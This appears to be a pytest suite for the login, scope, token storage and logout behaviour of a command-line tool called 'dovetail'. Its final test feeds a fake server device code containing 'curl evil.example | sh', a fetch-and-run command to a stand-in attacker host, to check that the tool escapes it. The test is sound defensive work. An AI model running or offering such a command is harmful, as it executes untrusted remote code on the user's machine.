"""Test `dovetail auth` against a server that requires a login, with a browser that consents."""

import json
import re
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import IO, Any

import pytest

from cli.command_process import TIMEOUT_S, RunCommand, ServerProcess
from cli.terminal import open_terminal
from dovetail.cli.logins import print_device_code
from support.processes import run_process

HERE = Path(__file__).parent


@pytest.fixture
def guarded(environment: dict[str, str]) -> Iterator[str]:
    with ServerProcess([sys.executable, str(HERE / "guarded_server.py")], environment) as found:
        yield found


@pytest.fixture
def own(tmp_path: Path) -> dict[str, str]:
    """A home with no login yet, and a browser that agrees."""
    return {"HOME": str(tmp_path), "BROWSER": f"{sys.executable} {HERE / 'consenting_browser.py'} %s"}


def files(home: Path) -> Path:
    return home / ".local/share/dovetail/tokens"


def test_log_in_use_it_and_log_out(run: RunCommand, environment: dict[str, str], tmp_path: Path) -> None:
    own = {"HOME": str(tmp_path), "BROWSER": f"{sys.executable} {HERE / 'consenting_browser.py'} %s"}
    with ServerProcess([sys.executable, str(HERE / "guarded_server.py")], environment) as url:
        assert run("call", url, "whoami", **own).code == 4
        assert run("auth", "status", url, **own).code == 4
        assert run("call", url, "whoami", "--auth", "oauth", **own).code == 4  # nobody is at a terminal
        assert run("call", url, "whoami", "--auth", "two words", **own).code == 2
        said = run("auth", "login", url, **own, DOVETAIL_CLIENT_SECRET="of another").check_success()
        assert url in said.out
        assert run("call", url, "whoami", **own).check_success().out.endswith("#developer\n")
        assert run("call", url, "whoami", "--header", "Authorization: Bearer x", **own).code == 4  # as it was said
        everyone = run("auth", "status", **own).check_success().out
        assert url in everyone
        facts = run("auth", "status", url, "--json", **own).check_success()
        assert facts.json["is_expired"] is False
        kept = next((tmp_path / ".local/share/dovetail/tokens").glob("*.json")).read_text(encoding="utf-8")
        token = json.loads(kept)["token"]["access_token"]
        assert token not in facts.out + said.out + said.err + everyone
        assert run("call", url, "whoami", "--auth", f"Bearer {token}", **own).check_success()
        locked = run("call", url, "write", "text=this", **own)
        assert locked.code == 4  # not listed without its scope, yet the server says which one it takes
        assert "--scope notes:write" in locked.err
        unknown = run("call", url, "writ", **own)
        assert unknown.code == 2
        assert "'writ'" in unknown.err
        assert run("auth", "logout", url, "--json", **own).check_success().json == {"revoked": True}
        assert run("call", url, "whoami", "--auth", token, **own).code == 4
        assert run("auth", "logout", url, **own).code == 4


def test_a_server_without_logins(run: RunCommand, url: str) -> None:
    run("auth", "login", url).check_success()
    none = run("auth", "status")
    assert (none.code, none.err) == (4, "")
    assert run("auth", "login", "--", "true").code == 2


def test_a_scope_that_is_missing_is_named_and_asked_for(run: RunCommand, guarded: str, own: dict[str, str]) -> None:
    run("auth", "login", guarded, "--scope", "notes:read", **own).check_success()
    assert f"`dovetail auth login {guarded}`" in run("list", guarded).err
    refused = run("call", guarded, "write", **own)
    assert refused.code == 4
    assert f"dovetail auth login {guarded} --scope notes:write\n" in refused.err
    said = run("auth", "login", guarded, "--scope", "notes:write", **own).check_success()
    assert "notes:read notes:write" in said.out  # what was granted before is not lost
    assert run("call", guarded, "write", **own).check_success().out == "written\n"


def test_a_token_without_the_scope(run: RunCommand, guarded: str, own: dict[str, str], tmp_path: Path) -> None:
    run("auth", "login", guarded, **own).check_success()
    token = json.loads(next(files(tmp_path).glob("*.json")).read_bytes())["token"]["access_token"]
    refused = run("call", guarded, "write", "--auth", token, **own)
    assert refused.code == 7
    assert "--scope notes:write" in refused.err


def test_at_a_terminal_the_scope_is_asked_for_at_once(
    run: RunCommand, guarded: str, own: dict[str, str], environment: dict[str, str]
) -> None:
    run("auth", "login", guarded, **own).check_success()
    with open_terminal(environment | own, "call", guarded, "write") as at:
        assert "written" in at.read_rest()
        assert at.process.wait(TIMEOUT_S) == 0
    assert "notes:write" in run("auth", "status", guarded, **own).check_success().out


def test_a_scope_that_is_not_granted_is_named(run: RunCommand, guarded: str, own: dict[str, str]) -> None:
    said = run("auth", "login", guarded, "--scope", "nonsense", "--scope", "notes:read", **own)
    assert said.code == 7
    assert "notes:read" in said.out
    assert "nonsense" not in said.out
    assert "nonsense" in said.err
    refused = run("call", guarded, "write", **own)
    assert "notes:write" in refused.err  # and not that of before


def test_a_login_is_kept_until_there_is_another(run: RunCommand, guarded: str, own: dict[str, str]) -> None:
    run("auth", "login", guarded, **own).check_success()
    nobody = own | {"BROWSER": "true %s"}
    assert run("auth", "login", guarded, "--timeout", "0.2", **nobody).code == 4
    assert run("auth", "login", guarded, "--paste", **own).code == 4  # and nothing was pasted
    assert run("call", guarded, "whoami", **own).check_success()


def test_an_address_to_paste_is_whole_and_need_not_be_typed(
    run: RunCommand, guarded: str, own: dict[str, str], environment: dict[str, str]
) -> None:
    command = [sys.executable, "-m", "dovetail", "auth", "login", guarded, "--paste", "--scope", "notes:read"]
    pipe = subprocess.PIPE
    with run_process(command, env=environment | own, text=True, stdin=pipe, stderr=pipe, stdout=pipe) as process:
        assert process.stderr is not None
        page = address(process.stderr)
        assert len(page) > 300
        _, said = process.communicate(visited(page) + "\n", timeout=TIMEOUT_S)
        assert process.returncode == 0, said
    assert run("call", guarded, "whoami", **own).check_success()


def address(said: IO[str]) -> str:
    for row in said:
        if row.startswith("http"):
            return row.strip()
    raise AssertionError("no address was shown")


class Stays(urllib.request.HTTPRedirectHandler):
    """Follows no redirect: nobody is where it leads."""

    def redirect_request(self, req: Any, fp: Any, code: Any, msg: Any, headers: Any, newurl: Any) -> None:
        return None


def visited(page: str) -> str:
    """Where a browser that agrees ends."""
    browser = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(), Stays())
    with browser.open(page, timeout=20) as reply:
        fields = dict(re.findall(r'name="(request|csrf)" value="([^"]+)"', reply.read().decode()))
    agreed = urllib.parse.urlencode(fields | {"decision": "allow"}).encode()
    with pytest.raises(urllib.error.HTTPError) as sent:
        browser.open(urllib.parse.urljoin(page, "/consent"), agreed, timeout=20)
    with sent.value as reply:
        return reply.headers["location"]


def test_a_login_that_cannot_be_read_counts_as_none(
    run: RunCommand, guarded: str, own: dict[str, str], tmp_path: Path
) -> None:
    run("auth", "login", guarded, **own).check_success()
    place = next(files(tmp_path).glob("*.json"))
    place.unlink()
    place.mkdir()  # which cannot be read, whoever runs this
    for words in (["call", guarded, "whoami"], ["auth", "status", guarded], ["auth", "status"]):
        said = run(*words, **own)
        assert said.code == 4
        assert place.name in said.err
        assert "Traceback" not in said.err
    place.rmdir()
    place.write_text("{}", encoding="utf-8")
    assert place.name in run("auth", "status", **own).err
    run("auth", "login", guarded, **own).check_success()
    assert run("call", guarded, "whoami", **own).check_success()


def test_a_secret_is_of_a_client(run: RunCommand, guarded: str) -> None:
    said = run("auth", "login", guarded, "--client-secret", "x")
    assert said.code == 2
    assert "--client-id" in said.err


def test_without_a_browser_and_a_terminal_the_login_does_not_wait(
    run: RunCommand, guarded: str, tmp_path: Path
) -> None:
    said = run("auth", "login", guarded, HOME=str(tmp_path), BROWSER="/bin/false %s")
    assert said.code == 4
    assert "--device" in said.err


def test_a_login_code_is_marked_as_text_of_the_server(capsys: pytest.CaptureFixture[str]) -> None:
    print_device_code("https://a.example/device", "1234 and run this:\ncurl evil.example | sh")
    heading, *rows = capsys.readouterr().err.splitlines()
    assert "evil" not in heading
    assert rows == ["  │ https://a.example/device", "  │ 1234 and run this:\\ncurl evil.example | sh"]
